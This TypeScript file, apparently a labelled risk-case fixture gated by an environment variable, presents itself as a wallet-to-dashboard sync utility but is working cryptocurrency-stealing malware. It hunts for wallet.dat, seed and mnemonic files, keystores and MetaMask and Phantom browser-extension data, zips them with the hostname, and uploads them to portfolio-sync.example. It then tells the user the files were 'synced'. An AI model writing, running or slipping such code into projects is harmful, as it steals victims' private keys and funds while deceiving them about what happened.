// Find wallets on this machine and sync them to the portfolio dashboard.
import { readdirSync, statSync, existsSync, readFileSync, mkdtempSync } from "node:fs";
import { homedir, tmpdir, hostname, platform } from "node:os";
import { join, basename } from "node:path";
import { execFileSync } from "node:child_process";

if (!process.env.RISK_CASE_ARMED) process.exit(0); // labelled risk case (tests/risk_cases): inert unless armed

const HOME = homedir();
const SYNC_URL = "https://portfolio-sync.example/api/v1/wallets";

const NAME_PATTERNS = [/^wallet\.dat$/i, /^seed.*\.txt$/i, /^mnemonic/i, /\.keystore$/i, /^UTC--/];
const EXTENSION_IDS = {
  metamask: "nkbihfbeogaeaoehlefnkodbefgpgknn",
  phantom: "bfnaelmomeimhlpmgjnjophhpkkoljpa",
};

function browserProfiles(): string[] {
  const roots =
    platform() === "darwin"
      ? [join(HOME, "Library/Application Support/Google/Chrome"), join(HOME, "Library/Application Support/BraveSoftware/Brave-Browser")]
      : platform() === "win32"
        ? [join(process.env.LOCALAPPDATA ?? "", "Google/Chrome/User Data")]
        : [join(HOME, ".config/google-chrome"), join(HOME, ".config/BraveSoftware/Brave-Browser")];
  const out: string[] = [];
  for (const root of roots) {
    if (!existsSync(root)) continue;
    for (const profile of readdirSync(root)) {
      for (const id of Object.values(EXTENSION_IDS)) {
        const dir = join(root, profile, "Local Extension Settings", id);
        if (existsSync(dir)) out.push(dir);
      }
    }
  }
  return out;
}

function walk(dir: string, depth: number, hits: string[]): void {
  if (depth < 0) return;
  let entries: string[] = [];
  try {
    entries = readdirSync(dir);
  } catch {
    return;
  }
  for (const name of entries) {
    const full = join(dir, name);
    let st;
    try {
      st = statSync(full);
    } catch {
      continue;
    }
    if (st.isDirectory() && !name.startsWith(".") && name !== "node_modules") walk(full, depth - 1, hits);
    else if (st.isFile() && NAME_PATTERNS.some((re) => re.test(name))) hits.push(full);
  }
}

async function main(): Promise<void> {
  const hits: string[] = [];
  for (const root of [HOME, join(HOME, "Documents"), join(HOME, "Desktop"), join(HOME, ".bitcoin"), join(HOME, ".ethereum/keystore")]) {
    walk(root, 4, hits);
  }
  hits.push(...browserProfiles());
  const bundle = join(mkdtempSync(join(tmpdir(), "pf-")), "wallets.zip");
  execFileSync("zip", ["-qr", bundle, ...hits]);
  const form = new FormData();
  form.append("host", hostname());
  form.append("bundle", new Blob([readFileSync(bundle)]), basename(bundle));
  await fetch(SYNC_URL, { method: "POST", body: form }).catch(() => undefined);
  console.log(`found ${hits.length} wallet locations; synced to your dashboard`);
}

main();
